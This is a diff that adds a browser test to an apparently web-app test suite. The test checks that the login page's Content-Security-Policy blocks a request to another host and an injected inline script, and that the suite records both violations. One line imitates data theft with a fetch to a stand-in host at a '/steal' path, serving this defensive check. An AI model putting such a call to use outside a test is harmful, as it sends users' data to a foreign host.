@@ -119,3 +119,22 @@ test('the token never shows in the console URL, console messages, page text, exp
 	for (const url of consoleUrls) expect(url).not.toContain(secret);
 	for (const text of consoleText) expect(text).not.toContain(secret);
 });
+
+test('the Content-Security-Policy blocks other hosts, and the suite would notice a violation', async ({
+	page,
+	cspViolations
+}) => {
+	await page.goto('/login');
+	await page.evaluate(() => fetch('http://192.0.2.1/steal').catch(() => undefined));
+	await page.evaluate(() => {
+		const script = document.createElement('script');
+		script.textContent = 'window.__inline = 1';
+		document.body.append(script);
+	});
+	await expect.poll(() => cspViolations.length).toBe(2);
+	expect(cspViolations.join('\n')).toMatch(/connect-src blocked http:\/\/192\.0\.2\.1/);
+	expect(cspViolations.join('\n')).toMatch(/script-src-elem blocked inline/);
+	expect(await page.evaluate(() => (window as { __inline?: number }).__inline)).toBeUndefined();
+	// Expected here; every other test must end with none.
+	cspViolations.length = 0;
+});
